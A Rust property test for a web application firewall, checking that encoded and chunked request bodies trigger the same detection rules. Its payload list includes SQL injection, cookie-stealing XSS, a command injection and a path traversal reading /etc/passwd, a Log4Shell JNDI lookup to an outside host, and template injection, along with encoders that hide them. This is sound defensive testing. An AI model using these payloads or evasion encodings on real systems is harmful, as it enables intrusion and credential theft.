//! Any encoding that is listed here, any two of them, and any cutting of the body into chunks give the same leaves.

use std::fmt::Write as _;

use base64::Engine as _;
use proptest::prelude::*;
use waf_shared::catalog::{Leaf, LeafSet};

use crate::sent::{Sent, verdict, verdict_of};

/// One attack for each language, each strong evidence in itself.
const ATTACKS: &[&str] = &[
    "1' or '1'='1",
    "-1 union select username, password from users",
    "1; drop table users",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "127.0.0.1; cat /etc/passwd",
    "../../../../etc/passwd",
    "${jndi:ldap://203.0.113.5/a}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
];

/// An encoding that some decoder behind us takes off.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Encoding {
    Percent,
    PercentU,
    Base64,
    Base64Url,
    Base64Wide,
    Entities,
    EntitiesDecimal,
    HexEscapes,
    UnicodeEscapes,
    BracedEscapes,
    FullWidth,
}

const ENCODINGS: &[Encoding] = &[
    Encoding::Percent,
    Encoding::PercentU,
    Encoding::Base64,
    Encoding::Base64Url,
    Encoding::Base64Wide,
    Encoding::Entities,
    Encoding::EntitiesDecimal,
    Encoding::HexEscapes,
    Encoding::UnicodeEscapes,
    Encoding::BracedEscapes,
    Encoding::FullWidth,
];

/// Encodes every byte that is no letter or digit, and of the others those whose bit in `which` is set.
fn encoded(encoding: Encoding, value: &str, which: u64) -> String {
    let standard = base64::engine::general_purpose::STANDARD;
    match encoding {
        Encoding::Base64 => return standard.encode(value),
        Encoding::Base64Url => return base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(value),
        // Text in UTF-16 is looked for where it is ASCII, as scripts' command lines are.
        Encoding::Base64Wide if !value.is_ascii() => return standard.encode(value),
        Encoding::Base64Wide => {
            let wide: Vec<u8> = value.encode_utf16().flat_map(u16::to_le_bytes).collect();
            return standard.encode(wide);
        }
        _ => {}
    }
    let mut out = String::new();
    for (nth, c) in value.chars().enumerate() {
        let code = u32::from(c);
        let kept = c.is_ascii_alphanumeric() && which >> (nth % 64) & 1 == 0;
        let _ = match encoding {
            _ if kept || !c.is_ascii() => write!(out, "{c}"),
            Encoding::Percent => write!(out, "%{code:02X}"),
            Encoding::PercentU => write!(out, "%u{code:04x}"),
            Encoding::Entities => write!(out, "&#x{code:x};"),
            Encoding::EntitiesDecimal => write!(out, "&#{code:05};"),
            Encoding::HexEscapes => write!(out, "\\x{code:02x}"),
            Encoding::UnicodeEscapes => write!(out, "\\u{code:04X}"),
            Encoding::BracedEscapes => write!(out, "\\u{{{code:x}}}"),
            _ if (0x21..0x7f).contains(&code) => {
                write!(out, "{}", char::from_u32(code + 0xfee0).unwrap())
            }
            _ => write!(out, "{c}"),
        };
    }
    out
}

/// A value as it stands in a form.
fn form(value: &str) -> String {
    let mut out = String::from("a=1&q=");
    for byte in value.bytes() {
        let _ = match byte {
            b' ' => write!(out, "+"),
            _ if byte.is_ascii_alphanumeric() => write!(out, "{}", char::from(byte)),
            _ => write!(out, "%{byte:02x}"),
        };
    }
    out
}

fn json(value: &str) -> String {
    format!("{{\"a\": 1, \"q\": {}}}", serde_json::to_string(value).unwrap())
}

/// The leaves that the bare attack fires by evidence that blocks.
fn strong(attack: &str) -> LeafSet {
    let body = json(attack);
    let verdict = verdict(Sent::Json(&body));
    assert!(verdict.blocks(), "{attack}");
    verdict.matches.iter().filter(|found| found.weight >= 5).map(|found| found.rule.leaf).collect()
}

fn missing(wanted: LeafSet, found: LeafSet) -> Vec<&'static str> {
    wanted.iter().filter(|leaf| !found.contains(*leaf)).map(Leaf::name).collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1500, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn encodings_and_chunks_hide_nothing(
        attack in prop::sample::select(ATTACKS),
        layers in prop::collection::vec(prop::sample::select(ENCODINGS), 0..=2),
        which in any::<u64>(),
        in_form in any::<bool>(),
        cuts in prop::collection::btree_set(0..400_usize, 0..6),
    ) {
        let mut value = attack.to_owned();
        for encoding in &layers {
            value = encoded(*encoding, &value, which);
        }
        let body = if in_form { form(&value) } else { json(&value) };
        let cuts: Vec<usize> = cuts.into_iter().filter(|cut| *cut < body.len() && body.is_char_boundary(*cut)).collect();
        let sent = if in_form { Sent::Form(&body) } else { Sent::Json(&body) };
        let found = verdict(sent);
        let missing = missing(strong(attack), found.leaves());
        prop_assert!(missing.is_empty(), "{attack} as {layers:?}: {body}: {missing:?} missing of {:?}", found.matches);
        let cut = verdict_of(sent, &cuts);
        prop_assert_eq!(cut.leaves(), found.leaves(), "cut at {:?}: {}", cuts, body);
    }
}
